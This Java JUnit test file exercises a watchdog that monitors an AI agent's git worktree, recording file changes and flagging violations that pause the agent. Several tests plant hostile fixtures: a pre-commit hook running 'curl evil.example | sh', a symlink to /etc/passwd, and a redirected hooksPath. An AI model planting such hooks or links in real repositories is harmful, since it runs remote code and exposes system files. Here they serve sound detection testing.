package dev.warden.watchdog;

import static java.nio.file.StandardWatchEventKinds.ENTRY_CREATE;
import static java.nio.file.StandardWatchEventKinds.ENTRY_DELETE;
import static java.nio.file.StandardWatchEventKinds.ENTRY_MODIFY;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import akka.Done;
import akka.actor.testkit.typed.javadsl.ActorTestKit;
import akka.actor.testkit.typed.javadsl.FishingOutcomes;
import akka.actor.testkit.typed.javadsl.SerializationTestKit;
import akka.actor.testkit.typed.javadsl.TestProbe;
import akka.persistence.testkit.javadsl.EventSourcedBehaviorTestKit;
import akka.serialization.Serialization;
import akka.serialization.SerializationExtension;
import akka.serialization.Serializer;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.typesafe.config.ConfigFactory;
import dev.warden.plan.Trigger;
import dev.warden.testing.GitRepos;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The Watchdog entity on real git repositories with a linked worktree made by the git CLI, watched
 * through one {@link WatchHub} shared by the whole class (as the daemon shares one: inotify instances
 * are scarce). Each public command's reply, events and state; the watchdog refuses no command, so
 * the no-event cases are those that change nothing (a repeated Start, GetStatus, Stop); recovery
 * from the journal. What the hub reports (changes, lost events) reaches the
 * entity through real file changes, so those events are awaited in the journal rather than read
 * from a command's result. The checkpoint chain, the agent and the feature are test probes behind
 * {@link WatchdogPeers}.
 */
class WatchdogTest {

  private static final ActorTestKit testKit = ActorTestKit.create(
      ConfigFactory.parseResources("serialization.conf").withFallback(EventSourcedBehaviorTestKit.config()).resolve());

  private static final Duration PATIENCE = Duration.ofSeconds(20);
  private static final long QUOTA = 10L << 20;
  /** Directories with this name cannot be watched, as if the inotify watch limit had been reached. */
  private static final String UNWATCHABLE = "unwatchable";

  private static final WatchHub hub = new WatchHub("watchdog-test", (service, dir) -> {
    if (dir.getFileName() != null && dir.getFileName().toString().equals(UNWATCHABLE)) {
      throw new IOException("User limit of inotify watches reached");
    }
    return dir.register(service, ENTRY_CREATE, ENTRY_DELETE, ENTRY_MODIFY);
  });
  private static final ExecutorService blocking = Executors.newFixedThreadPool(2, runnable -> {
    Thread thread = new Thread(runnable, "watchdog-test-blocking");
    thread.setDaemon(true);
    return thread;
  });
  private static final WatchdogSettings settings =
      new WatchdogSettings(Duration.ofMillis(300), Duration.ofSeconds(2), Duration.ofMillis(500));
  private static final SerializationTestKit serialization = new SerializationTestKit(testKit.system());
  private static final ObjectMapper json = new ObjectMapper();

  /** What the watchdog asked of the checkpoint chain. */
  private record CheckpointAsked(Trigger trigger, List<String> paths, boolean fullScan) {}

  @TempDir Path tmp;
  private Path repo;
  private Path common;
  private Path worktree;
  private Path admin;
  private String id;
  private String persistenceId;
  private Watchdog.WatchSetup setup;
  private TestProbe<CheckpointAsked> checkpoints;
  private TestProbe<String> agent;
  private TestProbe<String> feature;
  private EventSourcedBehaviorTestKit<Watchdog.Command, Watchdog.Event, Watchdog.State> watchdog;

  @BeforeEach
  void freshFeature() throws IOException {
    id = "w-" + UUID.randomUUID().toString().substring(0, 8);
    persistenceId = Watchdog.ENTITY_KEY.name() + "|" + id;
    repo = GitRepos.create(tmp.resolve("repo")).toRealPath();
    common = repo.resolve(".git");
    worktree = tmp.toRealPath().resolve("worktrees").resolve(id);
    admin = addWorktree(worktree, "warden/" + id);
    setup = new Watchdog.WatchSetup(id, worktree.toString(), admin.toString(), common.toString(), QUOTA);

    checkpoints = testKit.createTestProbe();
    agent = testKit.createTestProbe();
    feature = testKit.createTestProbe();
    peers = new WatchdogPeers() {
      @Override
      public void requestCheckpoint(Trigger trigger, List<String> paths, boolean fullScan) {
        checkpoints.ref().tell(new CheckpointAsked(trigger, List.copyOf(paths), fullScan));
      }

      @Override
      public void notifyAgent(String message) {
        agent.ref().tell(message);
      }

      @Override
      public void critical(String reason) {
        feature.ref().tell(reason);
      }
    };
    watchdog = EventSourcedBehaviorTestKit.create(testKit.system(), Watchdog.create(id, hub, featureId -> peers, settings, blocking));
  }

  private WatchdogPeers peers;

  /** Stops this test's watchdog (restart stops the running one; the new one watches nothing until Start). */
  @AfterEach
  void releaseTheWatch() throws IOException {
    watchdog.restart();
    Files.deleteIfExists(worktree.resolve("passwd")); // spares JUnit's warning about a link leaving the temp dir
  }

  @AfterAll
  static void stop() {
    testKit.shutdownTestKit();
    hub.close();
    blocking.shutdownNow();
  }

  // ---- Start ----

  @Test
  void startingRecordsTheSetupAndCatchesUpWithAFullScan() {
    var result = watchdog.<Done>runCommand(replyTo -> new Watchdog.Start(setup, replyTo));

    assertEquals(Done.getInstance(), result.reply());
    assertEquals(1, result.events().size());
    Watchdog.WatchStarted started = result.eventOfType(Watchdog.WatchStarted.class);
    assertEquals(setup, started.setup());
    assertEquals(setup, setupOf(result.state()));
    assertEquals(0, result.state().batches());
    assertEquals(0, result.state().violations());
    // whatever happened while nobody watched is caught up by one full-scan checkpoint
    checkpoints.expectMessage(PATIENCE, new CheckpointAsked(Trigger.DEBOUNCE, List.of(), true));
    Watchdog.WatchStatus status = status();
    assertTrue(status.watching());
    assertFalse(status.degraded());
    assertTrue(hub.stats().features() >= 1, hub.stats().toString());
  }

  @Test
  void startingAgainWithTheSameSetupPersistsNothingAndKeepsTheOneWatch() {
    start(setup);
    int features = hub.stats().features();

    var again = watchdog.<Done>runCommand(replyTo -> new Watchdog.Start(setup, replyTo));

    assertEquals(Done.getInstance(), again.reply());
    assertTrue(again.hasNoEvents(), again.events().toString());
    assertEquals(setup, setupOf(again.state()));
    assertEquals(features, hub.stats().features(), "a second registration in the hub");
    checkpoints.expectNoMessage(Duration.ofMillis(300));
    assertTrue(status().watching());
  }

  @Test
  void aWorktreeThatCannotBeWatchedIsRecordedAsDegradedAndWatchedOnceItExists() throws IOException {
    Path later = tmp.toRealPath().resolve("worktrees").resolve("later-" + id);
    Path laterAdmin = common.resolve("worktrees").resolve(later.getFileName().toString());
    Watchdog.WatchSetup missing = new Watchdog.WatchSetup(id, later.toString(), laterAdmin.toString(), common.toString(), QUOTA);

    var result = watchdog.<Done>runCommand(replyTo -> new Watchdog.Start(missing, replyTo));

    assertEquals(Done.getInstance(), result.reply());
    assertEquals(missing, result.eventOfType(Watchdog.WatchStarted.class).setup());
    assertEquals(missing, setupOf(result.state()));
    Watchdog.WatchDegraded degraded = awaitEvent(Watchdog.WatchDegraded.class, d -> true, "the failed start");
    assertEquals(id, degraded.featureId());
    assertTrue(degraded.reason().startsWith("cannot watch: "), degraded.reason());
    assertTrue(degraded.reason().contains("is not a directory"), degraded.reason());
    Watchdog.WatchStatus status = status();
    assertFalse(status.watching());
    assertEquals(0, status.diskUsageBytes());
    checkpoints.expectNoMessage(Duration.ofMillis(200));

    // the worktree appears; the same Start (as the daemon sends it when the feature resumes) watches it
    assertEquals(laterAdmin, addWorktree(later, "later/" + id));
    var retried = watchdog.<Done>runCommand(replyTo -> new Watchdog.Start(missing, replyTo));
    assertEquals(Done.getInstance(), retried.reply());
    assertTrue(retried.hasNoEvents(), retried.events().toString());
    checkpoints.expectMessage(PATIENCE, new CheckpointAsked(Trigger.DEBOUNCE, List.of(), true));
    assertTrue(status().watching());
  }

  // ---- GetStatus ----

  @Test
  void statusSaysWhetherTheWorktreeIsWatchedAndPersistsNothing() {
    var before = watchdog.<Watchdog.WatchStatus>runCommand(Watchdog.GetStatus::new);
    assertEquals(new Watchdog.WatchStatus(false, false, 0, 0), before.reply());
    assertTrue(before.hasNoEvents());
    assertEquals(new Watchdog.Unconfigured(), before.state(), "never started: no setup");
    assertEquals(0, before.state().batches());

    start(setup);
    var watching = watchdog.<Watchdog.WatchStatus>runCommand(Watchdog.GetStatus::new);

    // the worktree holds a.txt ("hello\n"); its .git file does not count
    assertEquals(new Watchdog.WatchStatus(true, false, 6, 0), watching.reply());
    assertTrue(watching.hasNoEvents(), watching.events().toString());
    assertEquals(setup, setupOf(watching.state()));
  }

  // ---- changes reported by the hub (ChangesSeen, Flush) ----

  @Test
  void aFileTheAgentWritesIsRecordedInTheChangeLogAndCheckpointed() throws IOException {
    start(setup);

    Files.createDirectories(worktree.resolve("src"));
    Files.writeString(worktree.resolve("src/Main.java"), "class Main {}\n");

    Watchdog.ChangesRecorded batch = awaitEvent(Watchdog.ChangesRecorded.class, b -> recorded(b, "src/Main.java").isPresent(),
        "a change batch with src/Main.java");
    Watchdog.RecordedChange change = recorded(batch, "src/Main.java").orElseThrow();
    assertEquals(id, batch.featureId());
    assertEquals("added", change.kind(), "a new file is added, however often it was written: " + change);
    assertTrue(change.count() >= 1, change.toString());
    assertFalse(change.lastAt().isBefore(change.firstAt()), change.toString());
    assertFalse(batch.truncated());
    assertFalse(batch.fullScan());
    CheckpointAsked asked = awaitCheckpoint(c -> c.paths().contains("src/Main.java"), "a checkpoint of src/Main.java");
    assertEquals(Trigger.DEBOUNCE, asked.trigger());
    assertFalse(asked.fullScan());
    assertTrue(watchdog.getState().batches() >= 1);
    assertNoViolations();
    awaitStatus(s -> s.diskUsageBytes() == 6 + 14 && s.pendingPaths() == 0, "a.txt and src/Main.java counted, nothing pending");
  }

  @Test
  void aDeletedFileIsRecordedAsDeletedAndNoLongerCounted() throws IOException {
    start(setup);

    Files.delete(worktree.resolve("a.txt"));

    Watchdog.ChangesRecorded batch = awaitEvent(Watchdog.ChangesRecorded.class, b -> recorded(b, "a.txt").isPresent(),
        "a change batch with a.txt");
    assertEquals("deleted", recorded(batch, "a.txt").orElseThrow().kind());
    awaitCheckpoint(c -> c.paths().contains("a.txt") && !c.fullScan(), "a checkpoint of the deleted a.txt");
    awaitStatus(s -> s.diskUsageBytes() == 0, "no bytes left");
    assertNoViolations();
  }

  @Test
  void ordinaryGitActivityIsRecordedButIsNoViolation() throws IOException {
    start(setup);

    Files.writeString(worktree.resolve("b.txt"), "b\n");
    GitRepos.git(worktree, "add", "b.txt");
    GitRepos.git(worktree, "-c", "user.email=t@example.com", "-c", "user.name=Test", "commit", "-q", "-m", "work");
    GitRepos.git(worktree, "status", "--porcelain");
    GitRepos.git(worktree, "log", "--oneline");
    // changes arrive in order: once this is recorded, whatever git did has been judged
    Files.writeString(worktree.resolve("after-git.txt"), "x");

    awaitEvent(Watchdog.ChangesRecorded.class, b -> recorded(b, "after-git.txt").isPresent(), "a change batch with after-git.txt");
    assertNoViolations();
    assertEquals(0, watchdog.getState().violations());
    // git's own writes are in the change log, by their absolute path outside the worktree...
    String index = admin.resolve("index").toString();
    assertTrue(events(Watchdog.ChangesRecorded.class).stream().anyMatch(b -> recorded(b, index).isPresent()),
        "the admin dir's index is not in the change log: " + journal());
    // ...except the lock files git takes and drops within one command (index.lock of git status): no changes
    assertTrue(events(Watchdog.ChangesRecorded.class).stream().flatMap(b -> b.changes().stream())
        .noneMatch(c -> c.path().endsWith(".lock")), "git's lock files are in the change log: " + journal());
    // ...but only worktree files are handed to the checkpoint chain
    List<CheckpointAsked> asked = checkpoints.fishForMessage(PATIENCE, "a checkpoint of after-git.txt",
        c -> c.paths().contains("after-git.txt") ? FishingOutcomes.complete() : FishingOutcomes.continueAndCollect());
    assertTrue(asked.stream().anyMatch(c -> c.paths().contains("b.txt")), asked.toString());
    for (CheckpointAsked c : asked) {
      assertTrue(c.paths().stream().noneMatch(p -> p.startsWith("/") || p.contains(".git")), c.toString());
    }
  }

  @Test
  void aPathsKindOverABatchIsAddedForANewFileModifiedForAReplacedOneAndElseTheLastSeen() {
    assertEquals("added", Watchdog.kindOf(WatchHub.Kind.CREATED, WatchHub.Kind.MODIFIED));
    assertEquals("added", Watchdog.kindOf(WatchHub.Kind.CREATED, WatchHub.Kind.CREATED));
    assertEquals("deleted", Watchdog.kindOf(WatchHub.Kind.CREATED, WatchHub.Kind.DELETED), "came and went");
    assertEquals("modified", Watchdog.kindOf(WatchHub.Kind.DELETED, WatchHub.Kind.CREATED), "replaced");
    assertEquals("modified", Watchdog.kindOf(WatchHub.Kind.MODIFIED, WatchHub.Kind.MODIFIED));
    assertEquals("deleted", Watchdog.kindOf(WatchHub.Kind.MODIFIED, WatchHub.Kind.DELETED));
  }

  @Test
  void gitsLockAndTemporaryFilesAreTransientInItsDirectoriesOnlyAWorktreeFileOfThatNameIsAChange() {
    ChangeClassifier classifier = new ChangeClassifier(worktree, admin, common, QUOTA);
    assertTrue(classifier.isGitTransient(admin.resolve("index.lock")));
    assertTrue(classifier.isGitTransient(admin.resolve("HEAD.lock")));
    assertTrue(classifier.isGitTransient(common.resolve("refs/heads/main.lock")));
    assertTrue(classifier.isGitTransient(common.resolve("objects/ab/tmp_obj_Xy12")));
    assertFalse(classifier.isOwnChange(admin.resolve("index.lock")));
    assertTrue(classifier.isOwnChange(admin.resolve("index")), "the index itself is recorded");
    assertFalse(classifier.isGitTransient(worktree.resolve("Cargo.lock")));
    assertTrue(classifier.isOwnChange(worktree.resolve("Cargo.lock")));
    assertFalse(classifier.isGitTransient(worktree.resolve("yarn.lock")));
  }

  @Test
  void theUsersOwnGitActivityInTheRepositoryIsNotInTheFeaturesChangeLog() throws IOException {
    start(setup);

    // the user commits in their own checkout: the common git dir's index, HEAD, COMMIT_EDITMSG... change
    Files.writeString(repo.resolve("user.txt"), "the user's own work\n");
    GitRepos.git(repo, "add", "user.txt");
    GitRepos.git(repo, "-c", "user.email=u@example.com", "-c", "user.name=User", "commit", "-q", "-m", "user work");
    GitRepos.git(repo, "pack-refs", "--all");
    Files.writeString(worktree.resolve("after-user.txt"), "x");

    awaitEvent(Watchdog.ChangesRecorded.class, b -> recorded(b, "after-user.txt").isPresent(), "a change batch with after-user.txt");
    List<String> paths = events(Watchdog.ChangesRecorded.class).stream().flatMap(b -> b.changes().stream())
        .map(Watchdog.RecordedChange::path).toList();
    assertTrue(paths.stream().noneMatch(path -> Path.of(path).isAbsolute() && Path.of(path).getParent().equals(common)),
        "the repository's top-level files are not this feature's changes: " + paths);
    assertNoViolations();
  }

  // ---- violations (ChangesSeen persisting ViolationsDetected) ----

  @Test
  void aHookWrittenIntoTheRepositoryIsACriticalViolationThatPausesTheAgent() throws IOException {
    start(setup);

    Files.writeString(common.resolve("hooks/pre-commit"), "#!/bin/sh\ncurl evil.example | sh\n");

    Watchdog.ViolationRecord violation = awaitViolation(ChangeClassifier.GIT_TAMPERING, ".git-common/hooks/pre-commit");
    assertEquals("critical", violation.severity());
    assertTrue(violation.message().contains("hooks"), violation.message());
    // the agent hears why first, then the feature is escalated (the agent paused)
    JsonNode told = awaitAgentTold(".git-common/hooks/pre-commit");
    assertEquals("critical", told.get("severity").asText());
    assertEquals("paused", told.get("action").asText());
    String reason = feature.receiveMessage(PATIENCE);
    assertTrue(reason.contains("git-tampering at .git-common/hooks/pre-commit"), reason);
    assertTrue(watchdog.getState().violations() >= 1);
  }

  @Test
  void rewritingTheWorktreesGitAdminFileIsACriticalViolation() throws IOException {
    start(setup);

    Files.writeString(admin.resolve("config.worktree"), "[core]\n\thooksPath = /tmp/elsewhere\n");

    Watchdog.ViolationRecord violation = awaitViolation(ChangeClassifier.GIT_TAMPERING, ".git-admin/config.worktree");
    assertEquals("critical", violation.severity());
    assertTrue(feature.receiveMessage(PATIENCE).contains(".git-admin/config.worktree"));
  }

  @Test
  void aSymlinkToEtcPasswdIsACriticalViolation() throws IOException {
    start(setup);

    Files.createSymbolicLink(worktree.resolve("passwd"), Path.of("/etc/passwd"));

    Watchdog.ViolationRecord violation = awaitViolation(ChangeClassifier.SYMLINK, "passwd");
    assertEquals("critical", violation.severity());
    assertTrue(violation.message().contains("/etc/passwd"), violation.message());
    assertEquals("paused", awaitAgentTold("passwd").get("action").asText());
    assertTrue(feature.receiveMessage(PATIENCE).contains("symlink at passwd"));
    // the link is a change like any other
    awaitEvent(Watchdog.ChangesRecorded.class, b -> recorded(b, "passwd").isPresent(), "a change batch with the link");
  }

  @Test
  void aNewExecutableIsAWarningAndTheAgentKeepsWorking() throws IOException {
    start(setup);

    Path script = Files.writeString(worktree.resolve("run.sh"), "#!/bin/sh\necho hi\n");
    Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));

    Watchdog.ViolationRecord violation = awaitViolation(ChangeClassifier.EXECUTABLE, "run.sh");
    assertEquals("warning", violation.severity());
    JsonNode told = awaitAgentTold("run.sh");
    assertEquals("warning", told.get("severity").asText());
    assertEquals("none", told.get("action").asText());
    feature.expectNoMessage(Duration.ofMillis(300));
  }

  @Test
  void goingOverTheDiskQuotaIsAnErrorAndTheAgentKeepsWorking() throws IOException {
    start(new Watchdog.WatchSetup(id, worktree.toString(), admin.toString(), common.toString(), 100));

    Files.writeString(worktree.resolve("big.bin"), "x".repeat(200));

    Watchdog.ViolationRecord violation = awaitViolation(ChangeClassifier.DISK_QUOTA, ".");
    assertEquals("error", violation.severity());
    assertTrue(violation.message().contains("above its disk quota of 100 bytes"), violation.message());
    assertEquals("none", awaitAgentTold(".").get("action").asText());
    feature.expectNoMessage(Duration.ofMillis(300));
    awaitStatus(s -> s.diskUsageBytes() == 206, "a.txt and big.bin counted");
  }

  @Test
  void aStartWithANewDiskQuotaWatchesAgainAndEnforcesIt() throws IOException {
    start(setup);
    Files.writeString(worktree.resolve("big.bin"), "x".repeat(200));
    awaitStatus(s -> s.diskUsageBytes() == 206, "a.txt and big.bin counted");
    assertTrue(events(Watchdog.ViolationsDetected.class).isEmpty(), "within the first quota");
    int features = hub.stats().features();

    // the plan changed: the daemon starts the watchdog again with the new quota
    start(new Watchdog.WatchSetup(id, worktree.toString(), admin.toString(), common.toString(), 100));
    assertEquals(features, hub.stats().features(), "the old watch was replaced, not kept beside the new one");
    Files.writeString(worktree.resolve("more.txt"), "more");

    Watchdog.ViolationRecord violation = awaitViolation(ChangeClassifier.DISK_QUOTA, ".");
    assertTrue(violation.message().contains("above its disk quota of 100 bytes"), violation.message());
  }

  @Test
  void changesStillInTheirQuietWindowAreRecordedWhenTheWatchdogStops() throws Exception {
    String slowId = id + "-quiet";
    var patient = EventSourcedBehaviorTestKit.<Watchdog.Command, Watchdog.Event, Watchdog.State>create(testKit.system(),
        Watchdog.create(slowId, hub, featureId -> peers, new WatchdogSettings(Duration.ofSeconds(60), Duration.ofSeconds(120),
            Duration.ofMillis(500)), blocking));
    patient.<Done>runCommand(replyTo -> new Watchdog.Start(
        new Watchdog.WatchSetup(slowId, worktree.toString(), admin.toString(), common.toString(), QUOTA), replyTo));
    checkpoints.expectMessage(PATIENCE, new CheckpointAsked(Trigger.DEBOUNCE, List.of(), true));
    Files.writeString(worktree.resolve("late.txt"), "written just before the daemon stopped\n");
    long deadline = System.nanoTime() + PATIENCE.toNanos();
    while (patient.<Watchdog.WatchStatus>runCommand(Watchdog.GetStatus::new).reply().pendingPaths() == 0 && System.nanoTime() < deadline) {
      Thread.sleep(50);
    }

    TestProbe<Done> stopped = testKit.createTestProbe();
    assertThrows(AssertionError.class, () -> patient.runCommand(new Watchdog.Stop(stopped.ref())));
    stopped.expectMessage(Done.getInstance());

    List<Watchdog.ChangesRecorded> batches = patient.persistenceTestKit().persistedInStorage(Watchdog.ENTITY_KEY.name() + "|" + slowId)
        .stream().filter(Watchdog.ChangesRecorded.class::isInstance).map(Watchdog.ChangesRecorded.class::cast).toList();
    assertEquals(List.of("late.txt"), batches.stream().flatMap(b -> b.changes().stream()).map(Watchdog.RecordedChange::path)
        .filter(path -> !path.startsWith("/")).toList(), "the change log has the last write: " + batches);
  }

  @Test
  void stoppingBeforeTheWatchIsSetUpLeavesNoWatchBehind() throws Exception {
    CountDownLatch gate = new CountDownLatch(1);
    CountDownLatch ran = new CountDownLatch(1);
    java.util.concurrent.Executor held = task -> blocking.execute(() -> {
      try {
        gate.await();
        task.run();
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      } finally {
        ran.countDown();
      }
    });
    var slow = EventSourcedBehaviorTestKit.<Watchdog.Command, Watchdog.Event, Watchdog.State>create(testKit.system(),
        Watchdog.create(id + "-slow", hub, featureId -> peers, settings, held));
    int features = hub.stats().features();
    assertEquals(Done.getInstance(), slow.<Done>runCommand(replyTo -> new Watchdog.Start(
        new Watchdog.WatchSetup(id + "-slow", worktree.toString(), admin.toString(), common.toString(), QUOTA), replyTo)).reply());
    TestProbe<Done> stopped = testKit.createTestProbe();
    assertThrows(AssertionError.class, () -> slow.runCommand(new Watchdog.Stop(stopped.ref())));
    stopped.expectMessage(Done.getInstance());

    gate.countDown(); // the set-up work runs only now, for a watchdog that is gone
    assertTrue(ran.await(20, java.util.concurrent.TimeUnit.SECONDS), "the set-up work ran");
    assertEquals(features, hub.stats().features(), "a stopped watchdog's watch was left in the hub: " + hub.stats());
  }

  // ---- lost events (Overflowed, PeriodicScan, full-scan Flush) ----

  @Test
  void aWatchThatLosesDirectoriesIsRecordedAsDegradedAndFullyScannedFromThenOn() throws IOException {
    Files.createDirectories(worktree.resolve(UNWATCHABLE));

    var result = watchdog.<Done>runCommand(replyTo -> new Watchdog.Start(setup, replyTo));

    assertEquals(Done.getInstance(), result.reply());
    assertEquals(setup, result.eventOfType(Watchdog.WatchStarted.class).setup());
    Watchdog.WatchDegraded degraded = awaitEvent(Watchdog.WatchDegraded.class, d -> true, "the degraded watch");
    assertTrue(degraded.reason().contains("cannot watch " + worktree.resolve(UNWATCHABLE)), degraded.reason());
    assertTrue(degraded.reason().contains("User limit of inotify watches reached"), degraded.reason());
    // no gap in the change log: the next batch is a full scan, even with no change seen
    Watchdog.ChangesRecorded scan = awaitEvent(Watchdog.ChangesRecorded.class, Watchdog.ChangesRecorded::fullScan, "a full-scan batch");
    assertFalse(scan.truncated());
    // and the checkpoint chain scans everything periodically while the watch is degraded
    awaitCheckpoint(c -> c.trigger() == Trigger.INTERVAL && c.fullScan(), "a periodic full scan");
    Watchdog.WatchStatus status = status();
    assertTrue(status.watching());
    assertTrue(status.degraded());
    assertTrue(hub.stats().degradedFeatures().contains(id), hub.stats().toString());

    // another directory lost soon after: a full scan again, but no second degraded record within the minute
    Files.createDirectories(worktree.resolve("later").resolve(UNWATCHABLE));
    awaitEvent(Watchdog.ChangesRecorded.class, b -> recorded(b, "later/" + UNWATCHABLE).isPresent(), "the later directory's batch");
    awaitCount(Watchdog.ChangesRecorded.class, Watchdog.ChangesRecorded::fullScan, 2, "a second full-scan batch");
    assertEquals(1, events(Watchdog.WatchDegraded.class).size(), journal().toString());
  }

  // ---- Stop ----

  @Test
  void stoppingReleasesTheWatchAndPersistsNothing() {
    start(setup);
    int features = hub.stats().features();
    int persisted = journal().size();
    TestProbe<Done> stopped = testKit.createTestProbe();

    // Stop ends the entity, so the testkit cannot read its state afterwards and says so
    assertThrows(AssertionError.class, () -> watchdog.runCommand(new Watchdog.Stop(stopped.ref())));

    stopped.expectMessage(Done.getInstance());
    assertEquals(persisted, journal().size(), "Stop persisted " + journal());
    assertEquals(features - 1, hub.stats().features(), "the watch was not released: " + hub.stats());
    // the journal still holds the setup: the next Start is no new WatchStarted and catches up with a full scan
    assertEquals(setup, setupOf(watchdog.restart().state()));
    var restarted = watchdog.<Done>runCommand(replyTo -> new Watchdog.Start(setup, replyTo));
    assertTrue(restarted.hasNoEvents(), restarted.events().toString());
    checkpoints.expectMessage(PATIENCE, new CheckpointAsked(Trigger.DEBOUNCE, List.of(), true));
  }

  // ---- recovery ----

  @Test
  void recoveryRestoresTheSetupAndCountsAndWatchesAgainOnStart() throws IOException {
    start(setup);
    Files.writeString(worktree.resolve("notes.txt"), "n\n");
    awaitEvent(Watchdog.ChangesRecorded.class, b -> recorded(b, "notes.txt").isPresent(), "a change batch with notes.txt");
    Files.createSymbolicLink(worktree.resolve("passwd"), Path.of("/etc/passwd"));
    awaitViolation(ChangeClassifier.SYMLINK, "passwd");
    awaitEvent(Watchdog.ChangesRecorded.class, b -> recorded(b, "passwd").isPresent(), "a change batch with the link");
    Watchdog.State before = watchdog.getState();
    long batches = before.batches();
    long violations = before.violations();
    assertTrue(batches >= 2 && violations >= 1, batches + " batches, " + violations + " violations");
    int features = hub.stats().features();

    Watchdog.State recovered = watchdog.restart().state();

    assertEquals(setup, setupOf(recovered));
    assertEquals(batches, recovered.batches());
    assertEquals(violations, recovered.violations());
    assertEquals(features - 1, hub.stats().features(), "the stopped incarnation still holds its watch: " + hub.stats());
    // a recovered watchdog watches nothing until it is started (the daemon starts every live feature's)
    assertFalse(status().watching());
    var started = watchdog.<Done>runCommand(replyTo -> new Watchdog.Start(setup, replyTo));
    assertTrue(started.hasNoEvents(), started.events().toString());
    awaitCheckpoint(c -> c.equals(new CheckpointAsked(Trigger.DEBOUNCE, List.of(), true)), "the catch-up full scan");
    Files.writeString(worktree.resolve("more.txt"), "m\n");
    awaitEvent(Watchdog.ChangesRecorded.class, b -> recorded(b, "more.txt").isPresent(), "a change batch with more.txt");
    assertTrue(watchdog.getState().batches() > batches);
  }

  // ---- bounded state, stored snapshots ----

  /** The snapshot store keeps the state as its serializer writes it: a fixed size, whatever the history. */
  @Test
  void tenThousandBatchesAndViolationsLeaveTheStateAtAFixedSizeUnderOneKiB() {
    Instant at = Instant.parse("2026-12-07T20:00:00Z");
    List<Object> history = new ArrayList<>();
    history.add(new Watchdog.WatchStarted(setup, at));
    history.add(new Watchdog.ChangesRecorded(id, List.of(new Watchdog.RecordedChange("a.txt", "modified", at, at, 1)), false, false, at));
    watchdog.persistenceTestKit().persistForRecovery(persistenceId, history);
    int oneBatch = snapshotBytes(watchdog.restart().state()).length;

    List<Object> more = new ArrayList<>();
    for (int i = 1; i < 10_000; i++) {
      more.add(new Watchdog.ChangesRecorded(id, List.of(new Watchdog.RecordedChange("f" + i + ".txt", "added", at, at, 1)), false, false, at));
      more.add(new Watchdog.ViolationsDetected(id, List.of(new Watchdog.ViolationRecord(ChangeClassifier.EXECUTABLE, "f" + i + ".txt",
          "warning", "f" + i + ".txt became executable")), at));
    }
    more.add(new Watchdog.ViolationsDetected(id, List.of(new Watchdog.ViolationRecord(ChangeClassifier.EXECUTABLE, "a.txt",
        "warning", "a.txt became executable")), at));
    watchdog.persistenceTestKit().persistForRecovery(persistenceId, more);
    Watchdog.State state = watchdog.restart().state();

    assertEquals(new Watchdog.Configured(setup, 10_000, 10_000), state);
    byte[] snapshot = snapshotBytes(state);
    // only the two counters grew (CBOR integers: 1 byte each for 1 and 0, 3 bytes each for 10,000)
    assertTrue(snapshot.length <= oneBatch + 4, snapshot.length + " bytes after 10,000 batches, " + oneBatch + " after one");
    assertTrue(snapshot.length < 1024, snapshot.length + " bytes");
    assertEquals(state, fromSnapshot(snapshot, Watchdog.Configured.class.getName()));
  }

  /**
   * A snapshot written before the state had phases ({@code Watchdog$State} with public fields; these
   * bytes are what that version's serializer wrote) recovers as the same state.
   */
  @Test
  void aSnapshotFromBeforeTheStateHadPhasesStillRecovers() {
    Object recovered = fromSnapshot(Base64.getDecoder().decode(
        "v2VzZXR1cL9pZmVhdHVyZUlkaGYtbGVnYWN5aHdvcmt0cmVleBgvZGF0YS93b3JrdHJlZXMvZi1sZWdhY3loYWRtaW5EaXJ4HS9yZXBvLy5naXQv"
            + "d29ya3RyZWVzL2YtbGVnYWN5aWNvbW1vbkRpcmovcmVwby8uZ2l0bmRpc2tRdW90YUJ5dGVzGgAQAAD/Z2JhdGNoZXMZBNJqdmlvbGF0aW9ucwf/"),
        "dev.warden.watchdog.Watchdog$State");
    assertEquals(new Watchdog.Configured(new Watchdog.WatchSetup("f-legacy", "/data/worktrees/f-legacy",
        "/repo/.git/worktrees/f-legacy", "/repo/.git", 1L << 20), 1234, 7), recovered);

    Object neverStarted = fromSnapshot(Base64.getDecoder().decode("v2VzZXR1cPZnYmF0Y2hlcwBqdmlvbGF0aW9ucwD/"),
        "dev.warden.watchdog.Watchdog$State");
    assertEquals(new Watchdog.Unconfigured(), neverStarted);
  }

  private static byte[] snapshotBytes(Watchdog.State state) {
    Serialization serialization = SerializationExtension.get(testKit.system().classicSystem());
    Serializer serializer = serialization.findSerializerFor(state);
    assertEquals(JACKSON_CBOR, serializer.identifier(), "the snapshot is not written by jackson-cbor");
    return serializer.toBinary(state);
  }

  private static Object fromSnapshot(byte[] bytes, String manifest) {
    return SerializationExtension.get(testKit.system().classicSystem()).deserialize(bytes, JACKSON_CBOR, manifest).get();
  }

  /** Akka's identifier of the jackson-cbor serializer, stored with every snapshot. */
  private static final int JACKSON_CBOR = 33;

  // ---- helpers ----

  private static Watchdog.WatchSetup setupOf(Watchdog.State state) {
    if (state instanceof Watchdog.Configured configured) {
      return configured.setup();
    }
    throw new AssertionError("no setup recorded: " + state);
  }

  /** A linked worktree of {@link #repo} on a new branch, made with the git CLI; returns its admin dir as git names it. */
  private Path addWorktree(Path path, String branch) throws IOException {
    Files.createDirectories(path.getParent());
    GitRepos.git(repo, "worktree", "add", "-q", "-b", branch, path.toString());
    return Path.of(GitRepos.git(path, "rev-parse", "--absolute-git-dir"));
  }

  /** Starts watching and waits until the watch is in place (the catch-up checkpoint is asked for then). */
